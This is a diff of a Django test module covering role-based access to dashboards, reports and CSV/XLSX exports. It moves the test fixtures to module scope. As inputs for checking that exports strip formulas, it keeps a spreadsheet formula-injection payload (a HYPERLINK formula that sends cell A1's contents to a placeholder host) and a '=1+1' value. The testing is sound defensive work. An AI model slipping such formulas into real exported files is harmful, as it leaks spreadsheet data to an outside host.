@@ -1,6 +1,7 @@
 """Who may open the dashboards and reports, and the list exports: each list × role
 returns only the rows that user may see, in CSV and XLSX, with no formula."""
 
+import copy
 import csv
 import datetime
 import io
@@ -11,12 +12,14 @@ from django.utils import timezone
 from openpyxl import load_workbook
 
 from ais.accounts.models import Role
+from evaluation.models import Phase
+from evaluation.schedule import current_version
 from reporting.models import Report, ReportKind, ReportStatus
 from tests.ais.factories import UserFactory
-from tests.conftest import make_user
+from tests.conftest import make_user, rows_for_the_module
 from tests.essaimage.factories import SupportRequestFactory, TrainingFactory
 from tests.projects.factories import InnovationFactory
-from tests.reporting.pages.conftest import structure
+from tests.reporting.pages.conftest import nimes, parcours_gardien, structure
 
 pytestmark = pytest.mark.django_db
 
@@ -26,9 +29,42 @@ FORMULA = '=HYPERLINK("http://exemple.test/?x="&A1;"cliquer")'
 # Dashboards and reports ------------------------------------------------------------------
 
 
+def _make_rows():
+    """Parcours Gardien (the ``innovation`` fixture of conftest.py), VITA-Air, and the lists'
+    rows: made once for the module rather than for each of its tests."""
+    for phase in Phase.values:  # as _default_templates does for each test
+        current_version(phase)
+    innovation = parcours_gardien(nimes())
+    other_innovation = InnovationFactory(name="VITA-Air")
+    return {
+        "innovation": innovation,
+        "other_innovation": other_innovation,
+        "lists": _lists(innovation, other_innovation),
+    }
+
+
+@pytest.fixture(scope="module")
+def _export_rows(django_db_setup, django_db_blocker, tmp_path_factory):
+    """The module's rows (tests/conftest.py: rows_for_the_module); each test sees them in a
+    savepoint of its own."""
+    with rows_for_the_module(django_db_blocker, tmp_path_factory, _make_rows) as (made, _media_root):
+        yield made
+
+
 @pytest.fixture
-def other_innovation(db):
-    return InnovationFactory(name="VITA-Air")
+def _rows(db, _export_rows):
+    """The module's rows, as model instances of the test's own (copies)."""
+    return copy.deepcopy(_export_rows)
+
+
+@pytest.fixture
+def innovation(_rows):
+    return _rows["innovation"]
+
+
+@pytest.fixture
+def other_innovation(_rows):
+    return _rows["other_innovation"]
 
 
 @pytest.mark.parametrize("name", ["reporting:innovation_dashboard", "reporting:report_list"])
@@ -73,8 +109,7 @@ def test_yearly_report_is_for_administrators_only(client, manager, admin_user):
 # Exports ----------------------------------------------------------------------------------
 
 
-@pytest.fixture
-def lists(db, innovation, other_innovation):
+def _lists(innovation, other_innovation):
     """Parcours Gardien (2 answered structures from the ``innovation`` fixture, plus one
     whose name is a formula, with a contact), VITA-Air (one structure); a training and
     a hotline entry on each."""
@@ -86,6 +121,11 @@ def lists(db, innovation, other_innovation):
     SupportRequestFactory(structure=own, question="=1+1 comment remplir le questionnaire ?")
     SupportRequestFactory(structure=vita, question="Quels outils pour l'air intérieur ?")
     return {"contact": contact, "carrier": UserFactory(roles=[(Role.CARRIER, innovation.carrier)])}
+
+
+@pytest.fixture
+def lists(_rows):
+    return _rows["lists"]
 
 
 def _user(role, lists):
